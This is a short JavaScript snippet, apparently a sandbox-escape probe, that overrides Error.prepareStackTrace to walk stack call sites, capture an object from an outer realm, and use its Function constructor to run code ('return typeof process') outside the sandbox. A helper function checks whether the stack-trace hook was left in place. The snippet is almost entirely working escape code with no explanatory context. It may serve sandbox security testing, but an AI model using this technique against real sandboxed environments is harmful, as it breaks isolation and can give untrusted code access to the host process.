const attack = () => {
  let found = null;
  Error.prepareStackTrace = (error, sites) => {
    for (const site of sites) {
      const made = site.getThis?.() ?? site.getFunction?.();
      if (made?.constructor && made.constructor.constructor !== Function) found = made;
    }
    return 'x';
  };
  Error.stackTraceLimit = 1000;
  new Error('x').stack;
  return found?.constructor.constructor('return typeof process')?.();
};
const left = () => Error.prepareStackTrace !== undefined;
